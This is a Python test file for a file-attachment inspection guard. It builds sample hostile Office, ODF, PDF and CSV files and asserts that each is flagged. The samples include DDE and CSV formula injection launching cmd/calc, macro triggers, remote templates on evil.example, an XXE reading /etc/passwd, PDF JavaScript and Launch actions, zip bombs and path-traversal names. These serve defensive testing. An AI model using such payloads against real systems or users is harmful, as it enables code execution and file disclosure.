"""The process around an inspection, and each kind of hostile file inside."""

from __future__ import annotations

import hashlib
import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from PIL import Image

from kiban.office.guards.attachments import DEFAULT_LIMITS, AttachmentLimits, AttachmentReport, inspect_attachment
from kiban.office.guards.inspection.examine import examine

from .conftest import content_types, office_file, ole_file, pdf_file, png_file, relations, vba_project, zipped


def codes(name: str, data: bytes, limits: AttachmentLimits = DEFAULT_LIMITS) -> set[str]:
    return {finding.code for finding in examine(name, data, limits).findings}


def word(**parts: bytes | str) -> bytes:
    return office_file("docx", {name.replace("__", "/"): content for name, content in parts.items()})


@pytest.fixture(scope="module")
def real_docx() -> bytes:
    target, document = io.BytesIO(), Document()
    document.add_paragraph("基盤モデルの提案")
    picture = io.BytesIO()
    Image.new("RGB", (20, 10)).save(picture, "PNG")
    document.add_picture(picture)
    document.save(target)
    return target.getvalue()


def jpeg() -> bytes:
    target = io.BytesIO()
    Image.new("L", (8, 8)).save(target, "JPEG")
    return target.getvalue()


def opendocument(kind: str = "text", content: str = "<x/>", **parts: str) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content, **parts})


def test_a_real_docx_is_let_in_by_the_process(real_docx: bytes) -> None:
    report = inspect_attachment("提案.docx", real_docx)
    assert report == AttachmentReport(
        media_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        extension="docx",
        bytes=len(real_docx),
        sha256=hashlib.sha256(real_docx).hexdigest(),
        pages=None,
        macros=False,
        findings=(),
    )
    assert not report.refused


def test_a_path_is_read_like_bytes(tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.write_bytes(pdf_file())
    report = inspect_attachment("計画.pdf", path)
    assert (report.pages, report.findings) == (1, ())


def test_a_reader_that_needs_too_much_memory_costs_only_the_file() -> None:
    limits = AttachmentLimits(max_memory_bytes=64 * 2**20)
    report = inspect_attachment("a.txt", b"a" * (40 * 2**20), limits=limits)
    assert [finding.code for finding in report.findings] == ["cannot_inspect"]
    assert report.refused
    assert report.bytes == 40 * 2**20


def test_a_reader_that_takes_too_long_is_ended() -> None:
    report = inspect_attachment("a.csv", b"=a\n" * 4_000_000, limits=AttachmentLimits(max_seconds=1))
    assert [finding.code for finding in report.findings] == ["too_slow"]


def test_too_large_is_not_even_opened() -> None:
    report = inspect_attachment("a.pdf", b"x" * 11, limits=AttachmentLimits(max_bytes=10))
    assert [finding.code for finding in report.findings] == ["too_large"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", pdf_file()),
        ("a.xlsx", office_file("xlsx", {"xl/worksheets/sheet1.xml": "<sheet><f>SUM(A1:A3)</f><f>Q1!A1</f></sheet>"})),
        ("a.pptx", office_file("pptx", {"ppt/embeddings/Sheet1.xlsx": office_file("xlsx")})),
        ("a.xlsx", office_file("xlsx", {"xl/worksheets/_rels/s.xml.rels": relations(("ctrlProp", "c.xml", ""))})),
        (
            "a.docx",
            office_file("docx", {"word/_rels/d.xml.rels": relations(("hyperlink", "https://a.jp", "External"))}),
        ),
        ("a.odt", opendocument()),
        ("a.txt", "覚書\r\n".encode()),
        ("a.md", b"# Plan\n\n<b>bold</b>\n"),
        ("a.csv", "項目,金額\n-,-1200\n旅費,-3.5%\n".encode()),
        ("a.png", png_file(64, 64)),
        ("a.jpg", jpeg()),
        ("a.JPEG", jpeg()),
        ("a.docx", word(word___rels__document_xml_rels="<r/>")),
    ],
)
def test_plain_files_have_no_findings(name: str, data: bytes) -> None:
    report = examine(name, data, DEFAULT_LIMITS)
    assert report.findings == ()
    assert report.media_type != "application/octet-stream"


def word_relation(kind: str, target: str, mode: str = "External") -> bytes:
    return office_file("docx", {"word/_rels/document.xml.rels": relations((kind, target, mode))})


def field(*runs: str) -> bytes:
    inside = "".join(f"<r><instrText>{run}</instrText></r>" for run in runs)
    text = f'<w><p><r><fldChar fldCharType="begin"/></r>{inside}<r><fldChar fldCharType="end"/></r></p></w>'
    return office_file("docx", {"word/header1.xml": text})


def sheet(text: str) -> bytes:
    return office_file("xlsx", {"xl/worksheets/sheet1.xml": text})


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        # macros
        ("a.docx", office_file("docx", {"word/vbaProject.bin": vba_project()}), "macros"),
        ("a.docx", office_file("docx", {"word/media/image1.png": vba_project()}), "macros"),
        ("a.docx", office_file("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
        ("a.docm", office_file("docx", {"word/vbaProject.bin": vba_project()}), "macros"),
        (
            "a.xlsx",
            office_file("xlsx", {"xl/_rels/workbook.xml.rels": relations(("xlMacrosheet", "m.xml", ""))}),
            "macros",
        ),
        ("a.xlsx", sheet('<w><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></w>'), "macros"),
        ("a.xlsx", sheet('<c><f>EXEC("calc.exe")</f></c>'), "macros"),
        (
            "a.pptx",
            office_file("pptx", {"ppt/slides/s.xml": '<s><hlinkClick action="ppaction://macro?name=x"/></s>'}),
            "macros",
        ),
        (
            "a.pptx",
            office_file("pptx", {"ppt/embeddings/a.xlsx": office_file("xlsx", {"b.bin": vba_project()})}),
            "macros",
        ),
        ("a.odt", opendocument(**{"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
        ("a.ods", opendocument("spreadsheet", '<d xmlns:s="s"><s:event-listener/></d>'), "macros"),
        ("a.doc", vba_project(), "macros"),
        # DDE and content from elsewhere
        ("a.docx", field(" DDEAUTO c:\\\\windows\\\\cmd.exe"), "dde"),
        ("a.docx", field(" D", "DE", "AUTO cmd"), "dde"),
        ("a.docx", office_file("docx", {"word/footer1.xml": '<f><fldSimple instr=" dde cmd x"/></f>'}), "dde"),
        ("a.docx", field('INCLUDEPICTURE "http://evil.example/x.png"'), "external_content"),
        (
            "a.xlsx",
            office_file("xlsx", {"xl/externalLinks/e.xml": '<e><ddeLink ddeService="cmd" ddeTopic="/c"/></e>'}),
            "dde",
        ),
        ("a.xlsx", sheet("<c><f>cmd|' /c calc'!A0</f></c>"), "dde"),
        ("a.xlsx", sheet('<c><f>_xlfn.WEBSERVICE("http://x"&amp;A1)</f></c>'), "external_content"),
        ("a.ods", opendocument("spreadsheet", '<t formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>'), "dde"),
        ("a.odt", opendocument(content='<section-source href="http://evil.example/x"/>'), "external_content"),
        ("a.docx", word_relation("attachedTemplate", "http://evil.example/t.dotm"), "external_content"),
        ("a.docx", word_relation("attachedTemplate", "file://evil.example/share/t.dotm"), "external_content"),
        ("a.docx", word_relation("image", "\\\\evil.example\\share\\x.png"), "external_content"),
        ("a.docx", word_relation("image", "https://cdn.example/x.png"), "external_link"),
        ("a.docx", word_relation("oleObject", "mhtml:http://evil.example/x.html!x-usc:"), "external_content"),
        ("a.docx", word_relation("attachedTemplate", "file:///C:\\Users\\me\\our.dotx"), "external_link"),
        # things inside
        (
            "a.docx",
            office_file("docx", {"word/embeddings/oleObject1.bin": ole_file({"\x01Ole10Native": b"x"})}),
            "embedded_object",
        ),
        ("a.docx", word_relation("aFChunk", "chunk.rtf", ""), "embedded_object"),
        ("a.docx", office_file("docx", {"word/media/x.bin": b"MZ\x90\x00"}), "embedded_object"),
        ("a.docx", word_relation("control", "activeX1.xml", ""), "active_content"),
        ("a.docx", office_file("docx", {"word/media/image1.png": png_file(60_000, 60_000)}), "too_many_pixels"),
        # XML
        ("a.docx", office_file("docx", {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "xml_entities"),
        (
            "a.docx",
            office_file("docx", {"word/x.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'.encode("utf-16")}),
            "xml_entities",
        ),
        ("a.docx", office_file("docx", {"word/x.xml": "<x>"}), "damaged"),
        # names that lie
        ("a.docx", office_file("xlsx"), "type_mismatch"),
        ("a.pdf", b"MZ\x90\x00" * 200, "type_mismatch"),
        ("a.png", jpeg(), "type_mismatch"),
        ("a.txt", b"{\\rtf1\\ansi hello}", "type_mismatch"),
        ("a.csv", b"ID;PWXL;N;E\n", "type_mismatch"),
        ("a.txt", b"<html><script>1</script>", "type_mismatch"),
        ("a.txt", b"\x7fELF\x00\x01", "not_text"),
        ("a.zip", zipped({"a.txt": "a"}), "type_not_allowed"),
        ("a.exe", b"MZ", "type_not_allowed"),
        ("a", b"text", "no_extension"),
        ("a.txt", b"", "empty"),
        ("a.xlsx", ole_file({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "encrypted"),
        ("a.odt", opendocument(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "encrypted"),
        # two files in one
        ("a.pdf", pdf_file() + zipped({"a": "b"}), "two_formats"),
        ("a.png", png_file(4, 4) + zipped({"a": "b"}), "two_formats"),
        ("a.jpg", jpeg() + zipped({"a": "b"}), "two_formats"),
        ("a.docx", zipped({"x": pdf_file()}, zipfile.ZIP_STORED), "two_formats"),
        ("a.png", png_file(60_000, 60_000), "too_many_pixels"),
        # PDF
        ("a.pdf", pdf_file(catalog="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "javascript"),
        ("a.pdf", pdf_file("4 0 obj\n<</S/J#61vaScr#69pt/J#53(x)>>\nendobj\n"), "javascript"),
        ("a.pdf", pdf_file("4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), "launch"),
        (
            "a.pdf",
            pdf_file("4 0 obj\n<</EF<</F 5 0 R>>>>\nendobj\n5 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"),
            "embedded_file",
        ),
        ("a.pdf", pdf_file("4 0 obj\n(stream\n)\nendobj\n5 0 obj\n<</S/Launch>>\nendobj\n"), "launch"),
        ("a.pdf", pdf_file(trailer="/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>"), "encrypted"),
        ("a.pdf", b"%PDF-1.7\nnothing", "damaged"),
        # tables
        ("a.csv", b"a,b\n1,=cmd|'/c calc'!A1\n", "dde"),
        ("a.csv", b'a\tb\n1\t"=HYPERLINK(""http://x""&A1)"\n', "external_content"),
        ("a.csv", "a;b\n1;＋SUM(A1)\n".encode(), "formula"),
        ("a.csv", "項目\n費用\n".encode("cp932"), "not_utf8"),
    ],
)
def test_what_is_found(name: str, data: bytes, code: str) -> None:
    report = examine(name, data, DEFAULT_LIMITS)
    assert code in {finding.code for finding in report.findings}
    assert report.macros is ("macros" in {finding.code for finding in report.findings})
    assert report.refused is (code not in ("external_link", "formula", "not_utf8"))


def test_actions_in_object_streams_are_found() -> None:
    packed = zlib.compress(b"7 0 <</S/JavaScript/JS(x)>>").decode("latin-1")
    head = f"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(packed)}>>"
    stream = f"4 0 obj\n{head}\nstream\n{packed}\nendstream\nendobj\n"
    assert "javascript" in codes("a.pdf", pdf_file(stream))


def test_words_in_a_page_are_no_actions() -> None:
    assert codes("a.pdf", pdf_file("4 0 obj\n<</Length 20>>\nstream\n(/JS /Launch) Tj\nendstream\nendobj\n")) == set()


def test_a_bomb_is_given_up_while_it_unpacks() -> None:
    bomb = office_file("docx", {"word/x.xml": b"<x>" + b" " * (200 * 2**20) + b"</x>"})
    assert len(bomb) < 300_000
    assert codes("a.docx", bomb) == {"bomb"}


def test_many_small_parts_that_add_up_are_a_bomb() -> None:
    limits = AttachmentLimits(max_unpacked_bytes=2 * 2**20)
    parts = {f"word/media/{i}.bin": bytes(700_000) for i in range(4)}
    assert codes("a.docx", office_file("docx", parts), limits) == {"bomb"}


def test_a_header_that_states_a_small_size_is_not_believed() -> None:
    # 64 MiB of zeros, said to be 10 bytes in both headers: an unpacker that trusts headers sees ten.
    data = bytearray(office_file("docx", {"word/z.bin": bytes(64 * 2**20)}))
    for at, offset in ((data.index(b"word/z.bin") - 30, 22), (data.rindex(b"word/z.bin") - 46, 24)):
        struct.pack_into("<I", data, at + offset, 10)
    tracemalloc.start()
    found = codes("a.docx", bytes(data))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert found == {"bomb"}
    assert peak < 8 * 2**20


def test_files_that_overlap_are_refused() -> None:
    # The second file lies inside the first one's bytes, with a proper header of its own (Fifield, 2019).
    inner = zipped({"b.bin": b"x" * 50}, zipfile.ZIP_STORED)
    start, end = inner.index(b"PK\x01\x02"), inner.index(b"PK\x05\x06")
    local, record = inner[:start], bytearray(inner[start:end])
    outer = zipped({"[Content_Types].xml": content_types(), "a.bin": b"...." + local}, zipfile.ZIP_STORED)
    struct.pack_into("<I", record, 42, outer.index(local))
    at = outer.index(b"PK\x05\x06")
    tail = bytearray(outer[at:])
    size = struct.unpack_from("<I", tail, 12)[0]
    struct.pack_into("<HHI", tail, 8, 3, 3, size + len(record))
    data = outer[:at] + record + tail
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == ["[Content_Types].xml", "a.bin", "b.bin"]
    assert codes("a.docx", data) == {"bomb"}


@pytest.mark.parametrize("inside", ["../../etc/cron.d/x", "/etc/passwd", "C:/x", "word/../../x"])
def test_names_that_lead_elsewhere_are_refused(inside: str) -> None:
    assert codes("a.docx", office_file("docx", {inside: b"x"})) == {"bad_name_inside"}


def test_names_that_differ_in_case_alone_are_one_name() -> None:
    assert codes("a.docx", office_file("docx", {"word/A.xml": "<a/>", "WORD/a.xml": "<a/>"})) == {"bad_name_inside"}


def test_files_are_not_followed_down_forever() -> None:
    data = office_file("xlsx")
    for _ in range(4):
        data = office_file("docx", {"word/embeddings/a.docx": data})
    assert codes("a.docx", data) == {"nested"}


def test_more_parts_than_allowed() -> None:
    data = office_file("docx", {f"word/{i}.xml": "<a/>" for i in range(20)})
    assert codes("a.docx", data, AttachmentLimits(max_parts=10)) == {"too_many_parts"}


@pytest.mark.parametrize(
    "change", [lambda d: b"x" + d, lambda d: d + b"x", lambda d: d[:-30], lambda d: d[: len(d) // 2]]
)
def test_a_container_with_more_or_less_than_its_directory(change: Callable[[bytes], bytes]) -> None:
    assert examine("a.docx", change(office_file("docx")), DEFAULT_LIMITS).refused


def test_pages_and_slides_are_counted() -> None:
    slide = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    types = content_types(
        ("/ppt/presentation.xml", main), ("/ppt/slides/slide1.xml", slide), ("/ppt/slides/slide2.xml", slide)
    )
    assert examine("a.pptx", zipped({"[Content_Types].xml": types}), DEFAULT_LIMITS).pages == 2
    assert codes("a.pdf", pdf_file(), AttachmentLimits(max_pages=1)) == set()


def test_a_call_may_allow_fewer_types() -> None:
    assert codes("a.docx", office_file("docx"), AttachmentLimits(extensions=("pdf",))) == {"type_not_allowed"}


def test_a_picture_of_its_own_is_not_named_in_its_finding() -> None:
    report = examine("a.png", png_file(60_000, 60_000), DEFAULT_LIMITS)
    assert [each.en for each in report.findings] == ["An image has too many pixels: 60,000 × 60,000"]
